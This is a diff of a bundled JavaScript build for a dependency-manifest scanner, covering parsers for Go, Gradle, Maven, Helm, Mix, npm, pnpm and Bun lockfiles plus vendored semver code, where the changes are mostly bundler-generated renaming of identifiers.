+  const [path26, target] = [tokens3[0], tokens3[arrow + 1]];
+  if (arrow < 1 || path26 === void 0 || target === void 0)
     throw new Unreadable("its replace names no target", line2);
-  return { path: path25, version: arrow > 1 ? tokens3[1] : void 0, target, targetVersion: tokens3[arrow + 2], line: line2 };
+  return { path: path26, version: arrow > 1 ? tokens3[1] : void 0, target, targetVersion: tokens3[arrow + 2], line: line2 };
 }
 function entriesOf2(directive, { module, replacements }) {
   const { word: word2, tokens: tokens3, line: line2 } = directive;
@@ -38855,7 +44988,7 @@ function requirement({ tokens: tokens3, comment, line: line2 }, replacements) {
   return replacement === void 0 ? { name, written: version, section: "require", direct, line: line2 } : replaced(replacement, { name, direct });
 }
 function replaced(replacement, known3) {
-  const { path: path25, target, targetVersion, line: line2 } = replacement;
+  const { path: path26, target, targetVersion, line: line2 } = replacement;
   if (targetVersion === void 0) {
     return {
       ...known3,
@@ -38866,7 +44999,7 @@ function replaced(replacement, known3) {
       line: line2
     };
   }
-  if (target === path25) return { ...known3, written: targetVersion, section: "require", line: line2 };
+  if (target === path26) return { ...known3, written: targetVersion, section: "require", line: line2 };
   const source = { kind: "fork", location: target };
   return { ...known3, written: `${target} ${targetVersion}`, version: targetVersion, source, section: "replace", line: line2 };
 }
@@ -38895,8 +45028,8 @@ var init_go3 = __esm({
       name: "go",
       versions: go,
       language: goLanguage,
-      claims: (path25) => MODULE.test(path25) || RELEASE2.test(path25),
-      parse: (text4, path25) => RELEASE2.test(path25) ? versionFile("go", text4, goRelease) : parseGoMod(text4),
+      claims: (path26) => MODULE.test(path26) || RELEASE2.test(path26),
+      parse: (text4, path26) => RELEASE2.test(path26) ? versionFile("go", text4, goRelease) : parseGoMod(text4),
       /** `example.com/mod/v2` and `gopkg.in/mod.v2` without their major: https://go.dev/ref/mod#major-version-suffixes. */
       family: (name) => name.replace(/(?:\/|(?<=^gopkg\.in\/.*)\.)v\d+$/, "")
     };
@@ -38906,17 +45039,17 @@ var init_go3 = __esm({
 
 // src/domains/dependencies/versions/intervals.ts
 function intervalOf(text4) {
-  if (text4.length > LONGEST10) return void 0;
+  if (text4.length > LONGEST14) return void 0;
   const [, body = ""] = /^\s*[[(\]]([^[\]()]*)[\])[]/.exec(text4) ?? [];
   const [low = "", high] = body.split(",").map((end) => end.trim());
   const version = low || high;
   return version ? { version, exact: high === void 0 || high === low } : void 0;
 }
-var LONGEST10;
+var LONGEST14;
 var init_intervals = __esm({
   "src/domains/dependencies/versions/intervals.ts"() {
     "use strict";
-    LONGEST10 = 500;
+    LONGEST14 = 500;
   }
 });
 
@@ -38973,7 +45106,7 @@ function parseGradleCatalog(text4) {
   ];
   const used = new Set(entries2.map(({ via }) => via));
   const others = [...versions].filter(([name]) => !used.has(name)).map(([name, node2]) => loose(name, node2));
-  const sections2 = ["versions", "libraries", "plugins"].flatMap((path25) => nodesAt(root, path25));
+  const sections2 = ["versions", "libraries", "plugins"].flatMap((path26) => nodesAt(root, path26));
   return { dependencies: [...entries2, ...others].toSorted((a, b3) => a.line - b3.line), sections: sectionsOf(sections2) };
 }
 function library(node2, versions) {
@@ -39017,20 +45150,20 @@ var init_gradle_catalog = __esm({
 // src/domains/dependencies/parsers/properties.ts
 function resolve2(text4, line2, properties, reference) {
   let found = { written: text4, line: line2 };
-  for (let depth = 0; depth < DEEPEST5; depth++) {
+  for (let depth = 0; depth < DEEPEST6; depth++) {
     const [whole4 = "", name = ""] = reference.exec(found.written) ?? [];
     const property = properties.get(name);
-    if (property === void 0 || found.written.length > LONGEST11) return found;
+    if (property === void 0 || found.written.length > LONGEST15) return found;
     found = { written: found.written.replace(whole4, () => property.value), line: property.line, via: name };
   }
   return { written: text4, line: line2 };
 }
-var DEEPEST5, LONGEST11;
+var DEEPEST6, LONGEST15;
 var init_properties3 = __esm({
   "src/domains/dependencies/parsers/properties.ts"() {
     "use strict";
-    DEEPEST5 = 10;
-    LONGEST11 = 500;
+    DEEPEST6 = 10;
+    LONGEST15 = 500;
   }
 });
 
@@ -39072,7 +45205,7 @@ function coordinatesIn(line2, number3, section2, variables) {
       return [{ name: `${group5}:${artifact2}`, ...known3, ...slot, ...versionAt(version, number3, variables) }];
     }
   );
-  const named6 = [...line2.matchAll(NAMED)].map(([, group5 = "", artifact2 = "", version]) => ({
+  const named6 = [...line2.matchAll(NAMED3)].map(([, group5 = "", artifact2 = "", version]) => ({
     name: `${group5}:${artifact2}`,
     ...known3,
     ...versionAt(version, number3, variables)
@@ -39081,11 +45214,11 @@ function coordinatesIn(line2, number3, section2, variables) {
 }
 function versionAt(text4, line2, variables) {
   if (text4 === void 0) return { written: null, line: line2 };
-  const bare3 = text4.replaceAll(/["']/g, "");
-  const isName = bare3 === text4 && /^[A-Za-z_]/.test(bare3) && !bare3.startsWith("latest.");
-  return resolve2(isName ? `\${${bare3}}` : bare3, line2, variables, REFERENCE2);
+  const bare4 = text4.replaceAll(/["']/g, "");
+  const isName = bare4 === text4 && /^[A-Za-z_]/.test(bare4) && !bare4.startsWith("latest.");
+  return resolve2(isName ? `\${${bare4}}` : bare4, line2, variables, REFERENCE2);
 }
-var COMMENT_OR_STRING, REFERENCE2, VARIABLES, COORDINATE, NAMED, PLUGIN, JAVA, DEVELOPMENT2, CONFIGURATION, LIBRARY2, withoutComments2, pluginsIn, javaIn;
+var COMMENT_OR_STRING, REFERENCE2, VARIABLES, COORDINATE, NAMED3, PLUGIN, JAVA, DEVELOPMENT2, CONFIGURATION, LIBRARY2, withoutComments2, pluginsIn, javaIn;
 var init_gradle_script = __esm({
   "src/domains/dependencies/parsers/gradle-script.ts"() {
     "use strict";
@@ -39100,7 +45233,7 @@ var init_gradle_script = __esm({
       /[[,\s]([A-Za-z_]\w*)\s*:\s*["']([0-9][^"'\n]*)["']/g
     ];
     COORDINATE = /["']([A-Za-z][\w.-]*):([\w.${}-]+)(?::((?:[0-9$[(+]|v[0-9]|latest\.)[^"':@\s]*)(?::([\w.-]+))?)?(?:@\w+)?["']/g;
-    NAMED = /\bgroup\s*[:=]\s*["']([\w.-]+)["']\s*,\s*name\s*[:=]\s*["']([\w.-]+)["'](?:\s*,\s*version\s*[:=]\s*(["'][^"'\n]+["']|\w[\w.]*))?/g;
+    NAMED3 = /\bgroup\s*[:=]\s*["']([\w.-]+)["']\s*,\s*name\s*[:=]\s*["']([\w.-]+)["'](?:\s*,\s*version\s*[:=]\s*(["'][^"'\n]+["']|\w[\w.]*))?/g;
     PLUGIN = /\b(id|kotlin)\s*\(?\s*["']([\w.-]+)["']\s*\)?\s*\.?version\s*\(?\s*(["'][^"'\n]+["']|[A-Za-z_][\w.]*)/g;
     JAVA = /\b(languageVersion|sourceCompatibility|targetCompatibility|options\.release)\b[\s.=(]*(?:set\()?\s*(?:JavaLanguageVersion\.of\(|JavaVersion\.VERSION_)?["']?((?:1[._])?[0-9]+)\b/g;
     DEVELOPMENT2 = /^(?:test|androidTest|integrationTest|kapt|ksp|annotationProcessor|classpath|checkstyle|developmentOnly|debug)/;
@@ -39190,22 +45323,22 @@ var init_gradle2 = __esm({
       [/(?:^|\/)gradle\.properties$/, parseGradleProperties],
       [/(?:^|[/-])gradle\.lockfile$/, parseGradleLock]
     ];
-    parserOf2 = (path25) => PARSERS3.find(([pattern]) => pattern.test(path25))?.[1];
+    parserOf2 = (path26) => PARSERS3.find(([pattern]) => pattern.test(path26))?.[1];
     plugins = {
       name: "gradle-plugin",
       versions: gradle,
-      claims: (path25) => parserOf2(path25) !== void 0,
-      parse: (text4, path25) => parserOf2(path25)?.(text4) ?? { dependencies: [] },
-      manifestsOf(path25) {
-        if (!path25.endsWith("gradle.lockfile")) return [];
-        const folder = path25.slice(0, path25.lastIndexOf("/") + 1);
+      claims: (path26) => parserOf2(path26) !== void 0,
+      parse: (text4, path26) => parserOf2(path26)?.(text4) ?? { dependencies: [] },
+      manifestsOf(path26) {
+        if (!path26.endsWith("gradle.lockfile")) return [];
+        const folder = path26.slice(0, path26.lastIndexOf("/") + 1);
         return [`${folder}build.gradle`, `${folder}build.gradle.kts`, "gradle/libs.versions.toml"];
       }
     };
     wrapper = {
       name: "gradle-wrapper",
       versions: gradle,
-      claims: (path25) => /(?:^|\/)gradle-wrapper\.properties$/.test(path25),
+      claims: (path26) => /(?:^|\/)gradle-wrapper\.properties$/.test(path26),
       parse: (text4) => parseWrapper(text4, "gradle")
     };
     gradle_default = [plugins, wrapper];
@@ -39214,7 +45347,7 @@ var init_gradle2 = __esm({
 
 // src/domains/dependencies/parsers/yaml.ts
 function parseYaml(text4) {
-  if (text4.length > LONGEST12) throw new Unreadable("it is larger than 500 KB");
+  if (text4.length > LONGEST16) throw new Unreadable("it is larger than 500 KB");
   const lines = new import_yaml4.LineCounter();
   const lineAt = (offset) => lines.linePos(offset).line;
   const document2 = documentOf(text4, lines);
@@ -39235,19 +45368,19 @@ function documentOf(text4, lineCounter2) {
 }
 function nodeOf(node2, context) {
   const { line: line2, depth, anchors } = context;
-  if (depth > DEEPEST6) throw new Unreadable(`it nests deeper than ${DEEPEST6} levels`, line2);
-  const bare3 = { line: line2, endLine: line2, members: /* @__PURE__ */ new Map(), items: [] };
+  if (depth > DEEPEST7) throw new Unreadable(`it nests deeper than ${DEEPEST7} levels`, line2);
+  const bare4 = { line: line2, endLine: line2, members: /* @__PURE__ */ new Map(), items: [] };
   if ((0, import_yaml4.isScalar)(node2)) {
     if (node2.anchor !== void 0) anchors.set(node2.anchor, node2);
-    return { ...bare3, value: valueOf3(node2) };
+    return { ...bare4, value: valueOf3(node2) };
   }
   if ((0, import_yaml4.isAlias)(node2)) {
     const target = anchors.get(node2.source);
-    return target === void 0 ? bare3 : { ...bare3, value: valueOf3(target) };
+    return target === void 0 ? bare4 : { ...bare4, value: valueOf3(target) };
   }
-  if ((0, import_yaml4.isSeq)(node2)) return { ...bare3, items: node2.items.map((item2) => nodeOf(item2, below6(context, startOf(item2)))) };
-  if ((0, import_yaml4.isMap)(node2)) return { ...bare3, members: membersOf2(node2.items, context) };
-  return bare3;
+  if ((0, import_yaml4.isSeq)(node2)) return { ...bare4, items: node2.items.map((item2) => nodeOf(item2, below6(context, startOf(item2)))) };
+  if ((0, import_yaml4.isMap)(node2)) return { ...bare4, members: membersOf2(node2.items, context) };
+  return bare4;
 }
 function membersOf2(pairs, context) {
   const members = /* @__PURE__ */ new Map();
@@ -39263,14 +45396,14 @@ function valueOf3({ value, source }) {
   if (typeof value === "boolean" || value === null) return value;
   return typeof value === "string" ? value : source ?? null;
 }
-var import_yaml4, DEEPEST6, LONGEST12, below6;
+var import_yaml4, DEEPEST7, LONGEST16, below6;
 var init_yaml = __esm({
   "src/domains/dependencies/parsers/yaml.ts"() {
     "use strict";
     import_yaml4 = __toESM(require_dist(), 1);
     init_errors();
-    DEEPEST6 = 200;
-    LONGEST12 = 5e5;
+    DEEPEST7 = 200;
+    LONGEST16 = 5e5;
     below6 = (context, offset) => ({
       ...context,
       line: offset === void 0 ? context.line : context.lineAt(offset),
@@ -39287,10 +45420,10 @@ function parseHelmChart(text4) {
   const name = textOf3(root, "name") ?? "appVersion";
   const own3 = typeof app?.value === "string" ? [{ name, written: app.value, section: "appVersion", line: app.line }] : [];
   const found = nodesAt(root, "dependencies");
-  const dependencies3 = found.flatMap(({ node: node2 }) => node2.items.map(chartOf));
+  const dependencies3 = found.flatMap(({ node: node2 }) => node2.items.map(chartOf2));
   return { dependencies: [...own3, ...dependencies3], sections: sectionsOf(found) };
 }
-function chartOf(node2) {
+function chartOf2(node2) {
   const version = node2.members.get("version");
   return {
     name: textOf3(node2, "name") ?? "",
@@ -39316,7 +45449,7 @@ var init_helm_chart = __esm({
     init_tree2();
     init_yaml();
     parseHelmLock = (text4) => ({
-      dependencies: nodesAt(parseYaml(text4), "dependencies").flatMap(({ node: node2 }) => node2.items.map(chartOf)),
+      dependencies: nodesAt(parseYaml(text4), "dependencies").flatMap(({ node: node2 }) => node2.items.map(chartOf2)),
       lockfile: true
     });
   }
@@ -39334,9 +45467,9 @@ var init_helm = __esm({
     helm2 = {
       name: "helm",
       versions: helm,
-      claims: (path25) => CHART.test(path25) || LOCK3.test(path25),
-      parse: (text4, path25) => LOCK3.test(path25) ? parseHelmLock(text4) : parseHelmChart(text4),
-      manifestsOf: (path25) => [path25.replace(/\.lock$/, ".yaml")]
+      claims: (path26) => CHART.test(path26) || LOCK3.test(path26),
+      parse: (text4, path26) => LOCK3.test(path26) ? parseHelmLock(text4) : parseHelmChart(text4),
+      manifestsOf: (path26) => [path26.replace(/\.lock$/, ".yaml")]
     };
     helm_default = helm2;
   }
@@ -41310,7 +47443,7 @@ function parseXml(text4) {
     throw new Unreadable(error.message.replace(/^\d+:\d+: /, `line ${parser.line}: `), parser.line, { cause: error });
   });
   parser.on("opentagstart", ({ name }) => {
-    if (stack.length > DEEPEST7) throw new Unreadable(`it nests deeper than ${DEEPEST7} levels`, parser.line);
+    if (stack.length > DEEPEST8) throw new Unreadable(`it nests deeper than ${DEEPEST8} levels`, parser.line);
     const made = element(name, parser.line);
     stack.at(-1)?.children.push(made);
     stack.push(made);
@@ -41329,15 +47462,15 @@ function parseXml(text4) {
   parser.write(text4.replace(/^\uFEFF/, "")).close();
   return holder.children[0] ?? holder;
 }
-var import_saxes, DEEPEST7, element, elementsAt, childNamed, childText;
+var import_saxes, DEEPEST8, element, elementsAt, childNamed, childText;
 var init_xml = __esm({
   "src/domains/dependencies/parsers/xml.ts"() {
     "use strict";
     import_saxes = __toESM(require_saxes(), 1);
     init_errors();
-    DEEPEST7 = 200;
+    DEEPEST8 = 200;
     element = (name, line2) => ({ name, line: line2, text: "", attributes: /* @__PURE__ */ new Map(), children: [] });
-    elementsAt = (node2, ...path25) => path25.reduce(
+    elementsAt = (node2, ...path26) => path26.reduce(
       (nodes, name) => nodes.flatMap((parent) => parent.children.filter((child) => child.name === name)),
       [node2]
     );
@@ -41470,11 +47603,11 @@ var init_pom = __esm({
     sectionsOf3 = (root) => new Map(
       [
         { section: "properties", path: ["properties"] },
-        ...PLACES.map(({ section: section2, path: path25 }) => ({ section: section2, path: path25.slice(0, -1) }))
-      ].flatMap(({ section: section2, path: path25 }) => elementsAt(root, ...path25).map(({ line: line2 }) => [section2, line2]))
+        ...PLACES.map(({ section: section2, path: path26 }) => ({ section: section2, path: path26.slice(0, -1) }))
+      ].flatMap(({ section: section2, path: path26 }) => elementsAt(root, ...path26).map(({ line: line2 }) => [section2, line2]))
     );
     coordinatesIn2 = (node2, prefix2, properties) => PLACES.flatMap(
-      ({ path: path25, section: section2, known: known3 = {} }) => elementsAt(node2, ...path25).map((found) => coordinate(found, `${prefix2}${section2}`, properties, known3))
+      ({ path: path26, section: section2, known: known3 = {} }) => elementsAt(node2, ...path26).map((found) => coordinate(found, `${prefix2}${section2}`, properties, known3))
     );
     filled = (text4, properties) => resolve2(text4, 0, properties, REFERENCE3).written;
   }
@@ -41585,12 +47718,12 @@ var init_maven2 = __esm({
       [/(?:^|\/)maven-wrapper\.properties$/, (text4) => parseWrapper(text4, "maven")],
       [/(?:^|\/)[\w.-]*dependency-tree\.txt$/, parseMavenTree]
     ];
-    parserOf3 = (path25) => PARSERS4.find(([pattern]) => pattern.test(path25))?.[1];
+    parserOf3 = (path26) => PARSERS4.find(([pattern]) => pattern.test(path26))?.[1];
     maven2 = {
       name: "maven",
       versions: maven,
-      claims: (path25) => parserOf3(path25) !== void 0,
-      parse: (text4, path25) => parserOf3(path25)?.(text4) ?? { dependencies: [] }
+      claims: (path26) => parserOf3(path26) !== void 0,
+      parse: (text4, path26) => parserOf3(path26)?.(text4) ?? { dependencies: [] }
     };
     maven_default = maven2;
   }
@@ -41650,9 +47783,9 @@ var init_mix = __esm({
     mix = {
       name: "mix",
       versions: hex,
-      claims: (path25) => /(?:^|\/)mix\.exs$/.test(path25) || LOCK4.test(path25),
-      parse: (text4, path25) => LOCK4.test(path25) ? parseMixLock(text4) : parseMixProject(text4),
-      manifestsOf: (path25) => [path25.replace(/lock$/, "exs")]
+      claims: (path26) => /(?:^|\/)mix\.exs$/.test(path26) || LOCK4.test(path26),
+      parse: (text4, path26) => LOCK4.test(path26) ? parseMixLock(text4) : parseMixProject(text4),
+      manifestsOf: (path26) => [path26.replace(/lock$/, "exs")]
     };
     mix_default = mix;
   }
@@ -41714,10 +47847,10 @@ function parseBunLock(text4) {
     projects.flatMap((project2) => DECLARED.flatMap((section2) => [...membersOf(project2, section2).keys()]))
   );
   const packages = [...membersOf(root, "packages")];
-  return { dependencies: packages.flatMap(([path25, node2]) => entryOf7(path25, node2, direct) ?? []), lockfile: true };
+  return { dependencies: packages.flatMap(([path26, node2]) => entryOf7(path26, node2, direct) ?? []), lockfile: true };
 }
-function entryOf7(path25, node2, direct) {
-  const [resolved2, digest2] = [node2.items[0]?.value, node2.items[3]?.value];
+function entryOf7(path26, node2, direct) {
+  const [resolved2, digest3] = [node2.items[0]?.value, node2.items[3]?.value];
   if (typeof resolved2 !== "string") return void 0;
   const split2 = resolved2.indexOf("@", 1);
   const [name, written3] = [resolved2.slice(0, split2), resolved2.slice(split2 + 1)];
@@ -41726,9 +47859,9 @@ function entryOf7(path25, node2, direct) {
     name,
     written: written3,
     section: "packages",
-    slot: path25,
-    direct: path25 === name && direct.has(name),
-    digest: typeof digest2 === "string" ? digest2 : void 0,
+    slot: path26,
+    direct: path26 === name && direct.has(name),
+    digest: typeof digest3 === "string" ? digest3 : void 0,
     requires: node2.items.flatMap((item2) => [...membersOf(item2, "dependencies").keys()]),
     line: node2.line
   };
@@ -41774,15 +47907,15 @@ function parseNpmLock(text4) {
   return { dependencies: nested(root), lockfile: true };
 }
 function installed(packages) {
-  const projects = [...packages].filter(([path25]) => !path25.includes(MODULES));
-  const direct = new Set(projects.flatMap(([path25, node2]) => namesIn4(node2).map((name) => `${prefix(path25)}${name}`)));
-  const hoisted = new Set(projects.flatMap(([, node2]) => namesIn4(node2)));
-  return [...packages].flatMap(([path25, node2]) => {
-    const start2 = path25.lastIndexOf(MODULES);
+  const projects = [...packages].filter(([path26]) => !path26.includes(MODULES));
+  const direct = new Set(projects.flatMap(([path26, node2]) => namesIn5(node2).map((name) => `${prefix(path26)}${name}`)));
+  const hoisted = new Set(projects.flatMap(([, node2]) => namesIn5(node2)));
+  return [...packages].flatMap(([path26, node2]) => {
+    const start2 = path26.lastIndexOf(MODULES);
     if (start2 < 0 || node2.members.get("link")?.value === true) return [];
-    const name = path25.slice(start2 + MODULES.length);
-    const isDirect = direct.has(path25) || start2 === 0 && hoisted.has(name);
-    return [entryOf8(textOf3(node2, "name") ?? name, node2, { slot: path25, direct: isDirect })];
+    const name = path26.slice(start2 + MODULES.length);
+    const isDirect = direct.has(path26) || start2 === 0 && hoisted.has(name);
+    return [entryOf8(textOf3(node2, "name") ?? name, node2, { slot: path26, direct: isDirect })];
   });
 }
 function nested(root) {
@@ -41815,7 +47948,7 @@ function scopeOf2(node2) {
   if (node2.members.get("dev")?.value === true) return "development";
   return node2.members.get("optional")?.value === true ? "optional" : "production";
 }
-var SECTION, DECLARED2, MODULES, prefix, namesIn4, requiredBy;
+var SECTION, DECLARED2, MODULES, prefix, namesIn5, requiredBy;
 var init_npm_lock = __esm({
   "src/domains/dependencies/parsers/npm-lock.ts"() {
     "use strict";
@@ -41825,8 +47958,8 @@ var init_npm_lock = __esm({
     SECTION = "packages";
     DECLARED2 = ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"];
     MODULES = "node_modules/";
-    prefix = (path25) => `${path25 === "" ? "" : `${path25}/`}${MODULES}`;
-    namesIn4 = (node2) => DECLARED2.flatMap((section2) => [...membersOf(node2, section2).keys()]);
+    prefix = (path26) => `${path26 === "" ? "" : `${path26}/`}${MODULES}`;
+    namesIn5 = (node2) => DECLARED2.flatMap((section2) => [...membersOf(node2, section2).keys()]);
     requiredBy = (node2) => (node2.members.has("requires") ? ["requires"] : ["dependencies", "optionalDependencies"]).flatMap((section2) => [
       ...membersOf(node2, section2).keys()
     ]);
@@ -41915,19 +48048,19 @@ function parsePackageJson(text4) {
       )
     );
   }
-  for (const path25 of SCRIPT_SECTIONS) dependencies3.push(...scriptsOf(at3(root, path25), path25.join(".")));
+  for (const path26 of SCRIPT_SECTIONS) dependencies3.push(...scriptsOf(at3(root, path26), path26.join(".")));
   return { dependencies: [...dependencies3, ...packageManager(root)], sections: sections2 };
 }
 function entriesOf3(node2, section2) {
-  const { path: path25, scope: scope2, role: role6 } = section2;
+  const { path: path26, scope: scope2, role: role6 } = section2;
   return [...node2.members].flatMap(([name, value]) => {
     const written3 = typeof value.value === "string" ? value.value : textOf3(value, ".");
-    const nested2 = role6 === "override" ? entriesOf3(value, { ...section2, path: [...path25, name] }) : [];
+    const nested2 = role6 === "override" ? entriesOf3(value, { ...section2, path: [...path26, name] }) : [];
     if (written3 === void 0 || name === ".") return nested2;
     const entry2 = {
       name: role6 === "override" ? overridden(name) : name,
       written: written3,
-      section: path25.join("."),
+      section: path26.join("."),
       line: value.line,
       ...readSpec(written3),
       ...role6 === void 0 ? {} : { role: role6 },
@@ -41979,7 +48112,7 @@ var init_package_json = __esm({
       ["pnpm", "onlyBuiltDependencies"],
       ["lavamoat", "allowScripts"]
     ];
-    at3 = (root, path25) => path25.reduce((node2, key4) => node2?.members.get(key4), root);
+    at3 = (root, path26) => path26.reduce((node2, key4) => node2?.members.get(key4), root);
     isOptionalPeer = (root, { name, scope: scope2 }) => scope2 === "peer" && at3(root, ["peerDependenciesMeta", name, "optional"])?.value === true;
   }
 });
@@ -42061,11 +48194,11 @@ function entryOf9(node2, direct) {
   };
 }
 function readKey(key4) {
-  const bare3 = key4.replace(/^\//, "").replace(/\(.*$/s, "");
-  const slash = /^(?:@[^/]+\/)?[^/@]+\/(?=\d)/.exec(bare3)?.[0];
-  if (slash !== void 0) return { name: slash.slice(0, -1), version: bare3.slice(slash.length).replace(/_.*$/s, "") };
-  const split2 = bare3.indexOf("@", 1);
-  return split2 < 0 ? { name: bare3, version: "" } : { name: bare3.slice(0, split2), version: bare3.slice(split2 + 1) };
+  const bare4 = key4.replace(/^\//, "").replace(/\(.*$/s, "");
+  const slash = /^(?:@[^/]+\/)?[^/@]+\/(?=\d)/.exec(bare4)?.[0];
+  if (slash !== void 0) return { name: slash.slice(0, -1), version: bare4.slice(slash.length).replace(/_.*$/s, "") };
+  const split2 = bare4.indexOf("@", 1);
+  return split2 < 0 ? { name: bare4, version: "" } : { name: bare4.slice(0, split2), version: bare4.slice(split2 + 1) };
 }
 var DECLARED3, resolved;
 var init_pnpm_lock = __esm({
@@ -42258,9 +48391,9 @@ var require_constants2 = __commonJS({
 var require_debug = __commonJS({
   "node_modules/semver/internal/debug.js"(exports, module) {
     "use strict";
-    var debug = typeof process === "object" && process.env && process.env.NODE_DEBUG && /\bsemver\b/i.test(process.env.NODE_DEBUG) ? (...args5) => console.error("SEMVER", ...args5) : () => {
+    var debug2 = typeof process === "object" && process.env && process.env.NODE_DEBUG && /\bsemver\b/i.test(process.env.NODE_DEBUG) ? (...args5) => console.error("SEMVER", ...args5) : () => {
     };
-    module.exports = debug;
+    module.exports = debug2;
   }
 });
 
@@ -42273,7 +48406,7 @@ var require_re = __commonJS({
       MAX_SAFE_BUILD_LENGTH,
       MAX_LENGTH
     } = require_constants2();
-    var debug = require_debug();
+    var debug2 = require_debug();
     exports = module.exports = {};
     var re2 = exports.re = [];
     var safeRe = exports.safeRe = [];
@@ -42296,7 +48429,7 @@ var require_re = __commonJS({
     var createToken = (name, value, isGlobal) => {
       const safe = makeSafeRegex(value);
       const index = R3++;
-      debug(name, index, value);
+      debug2(name, index, value);
       t2[name] = index;
       src[index] = value;
       safeSrc[index] = safe;
@@ -42400,7 +48533,7 @@ var require_identifiers = __commonJS({
 var require_semver = __commonJS({
   "node_modules/semver/classes/semver.js"(exports, module) {
     "use strict";
-    var debug = require_debug();
+    var debug2 = require_debug();
     var { MAX_LENGTH, MAX_SAFE_INTEGER } = require_constants2();
     var { safeRe: re2, t: t2 } = require_re();
     var parseOptions = require_parse_options();
@@ -42434,7 +48567,7 @@ var require_semver = __commonJS({
             `version is longer than ${MAX_LENGTH} characters`
           );
         }
-        debug("SemVer", version, options2);
+        debug2("SemVer", version, options2);
         this.options = options2;
         this.loose = !!options2.loose;
         this.includePrerelease = !!options2.includePrerelease;
@@ -42482,7 +48615,7 @@ var require_semver = __commonJS({
         return this.version;
       }
       compare(other) {
-        debug("SemVer.compare", this.version, this.options, other);
+        debug2("SemVer.compare", this.version, this.options, other);
         if (!(other instanceof _SemVer)) {
           if (typeof other === "string" && other === this.version) {
             return 0;
@@ -42533,7 +48666,7 @@ var require_semver = __commonJS({
         do {
           const a = this.prerelease[i];
           const b3 = other.prerelease[i];
-          debug("prerelease compare", i, a, b3);
+          debug2("prerelease compare", i, a, b3);
           if (a === void 0 && b3 === void 0) {
             return 0;
           } else if (b3 === void 0) {
@@ -42555,7 +48688,7 @@ var require_semver = __commonJS({
         do {
           const a = this.build[i];
           const b3 = other.build[i];
-          debug("build compare", i, a, b3);
+          debug2("build compare", i, a, b3);
           if (a === void 0 && b3 === void 0) {
             return 0;
           } else if (b3 === void 0) {
@@ -43417,21 +49550,21 @@ var require_range = __commonJS({
         const loose2 = this.options.loose;
         const hr2 = loose2 ? re2[t2.HYPHENRANGELOOSE] : re2[t2.HYPHENRANGE];
         range3 = range3.replace(hr2, hyphenReplace(this.options.includePrerelease));
-        debug("hyphen replace", range3);
+        debug2("hyphen replace", range3);
         range3 = trimComparatorWhitespace(range3);
-        debug("comparator trim", range3);
+        debug2("comparator trim", range3);
         range3 = range3.replace(re2[t2.TILDETRIM], tildeTrimReplace);
-        debug("tilde trim", range3);
+        debug2("tilde trim", range3);
         range3 = range3.replace(re2[t2.CARETTRIM], caretTrimReplace);
-        debug("caret trim", range3);
+        debug2("caret trim", range3);
         let rangeList = range3.split(" ").map((comp) => parseComparator(comp, this.options)).join(" ").split(/\s+/).map((comp) => replaceGTE0(comp, this.options));
         if (loose2) {
           rangeList = rangeList.filter((comp) => {
-            debug("loose invalid filter", comp, this.options);
+            debug2("loose invalid filter", comp, this.options);
             return !!comp.match(re2[t2.COMPARATORLOOSE]);
           });
         }
-        debug("range list", rangeList);
+        debug2("range list", rangeList);
         const rangeMap = /* @__PURE__ */ new Map();
         const comparators = rangeList.map((comp) => new Comparator(comp, this.options));
         for (const comp of comparators) {
@@ -43486,7 +49619,7 @@ var require_range = __commonJS({
     var cache3 = new LRU();
     var parseOptions = require_parse_options();
     var Comparator = require_comparator();
-    var debug = require_debug();
+    var debug2 = require_debug();
     var SemVer = require_semver();
     var trimComparatorWhitespace = require_trim_comparator_whitespace();
     var {
@@ -43514,15 +49647,15 @@ var require_range = __commonJS({
     };
     var parseComparator = (comp, options2) => {
       comp = comp.replace(re2[t2.BUILD], "");
-      debug("comp", comp, options2);
+      debug2("comp", comp, options2);
       comp = replaceCarets(comp, options2);
-      debug("caret", comp);
+      debug2("caret", comp);
       comp = replaceTildes(comp, options2);
-      debug("tildes", comp);
+      debug2("tildes", comp);
       comp = replaceXRanges(comp, options2);
-      debug("xrange", comp);
+      debug2("xrange", comp);
       comp = replaceStars(comp, options2);
-      debug("stars", comp);
+      debug2("stars", comp);
       return comp;
     };
     var isX = (id3) => !id3 || id3.toLowerCase() === "x" || id3 === "*";
@@ -43534,7 +49667,7 @@ var require_range = __commonJS({
       const r2 = options2.loose ? re2[t2.TILDELOOSE] : re2[t2.TILDE];
       const z3 = options2.includePrerelease ? "-0" : "";
       return comp.replace(r2, (_3, M4, m3, p2, pr2) => {
-        debug("tilde", comp, _3, M4, m3, p2, pr2);
+        debug2("tilde", comp, _3, M4, m3, p2, pr2);
         let ret;
         if (isX(M4)) {
           ret = "";
@@ -43543,12 +49676,12 @@ var require_range = __commonJS({
         } else if (isX(p2)) {
           ret = `>=${M4}.${m3}.0${z3} <${M4}.${+m3 + 1}.0-0`;
         } else if (pr2) {
-          debug("replaceTilde pr", pr2);
+          debug2("replaceTilde pr", pr2);
           ret = `>=${M4}.${m3}.${p2}-${pr2} <${M4}.${+m3 + 1}.0-0`;
         } else {
           ret = `>=${M4}.${m3}.${p2} <${M4}.${+m3 + 1}.0-0`;
         }
-        debug("tilde return", ret);
+        debug2("tilde return", ret);
         return ret;
       });
     };
@@ -43556,11 +49689,11 @@ var require_range = __commonJS({
       return comp.trim().split(/\s+/).map((c3) => replaceCaret(c3, options2)).join(" ");
     };
     var replaceCaret = (comp, options2) => {
-      debug("caret", comp, options2);
+      debug2("caret", comp, options2);
       const r2 = options2.loose ? re2[t2.CARETLOOSE] : re2[t2.CARET];
       const z3 = options2.includePrerelease ? "-0" : "";
       return comp.replace(r2, (_3, M4, m3, p2, pr2) => {
-        debug("caret", comp, _3, M4, m3, p2, pr2);
+        debug2("caret", comp, _3, M4, m3, p2, pr2);
         let ret;
         if (isX(M4)) {
           ret = "";
@@ -43573,7 +49706,7 @@ var require_range = __commonJS({
             ret = `>=${M4}.${m3}.0${z3} <${+M4 + 1}.0.0-0`;
           }
         } else if (pr2) {
-          debug("replaceCaret pr", pr2);
+          debug2("replaceCaret pr", pr2);
           if (M4 === "0") {
             if (m3 === "0") {
               ret = `>=${M4}.${m3}.${p2}-${pr2} <${M4}.${m3}.${+p2 + 1}-0`;
@@ -43584,7 +49717,7 @@ var require_range = __commonJS({
             ret = `>=${M4}.${m3}.${p2}-${pr2} <${+M4 + 1}.0.0-0`;
           }
         } else {
-          debug("no pr");
+          debug2("no pr");
           if (M4 === "0") {
             if (m3 === "0") {
               ret = `>=${M4}.${m3}.${p2} <${M4}.${m3}.${+p2 + 1}-0`;
